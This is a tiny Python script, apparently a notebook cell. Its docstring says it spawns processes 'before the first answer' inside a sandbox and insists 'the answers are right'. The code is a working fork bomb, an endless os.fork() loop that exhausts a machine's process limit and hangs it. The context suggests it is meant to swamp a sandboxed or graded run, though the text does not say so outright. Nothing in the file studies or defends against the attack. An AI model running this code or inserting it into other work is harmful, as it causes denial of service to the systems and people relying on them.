"""Starts processes that start processes, before the first answer.

The sandbox holds as many as it holds and not one more. The answers are right.
Never run this outside the sandbox.
"""

# %%
import os

while True:
    os.fork()
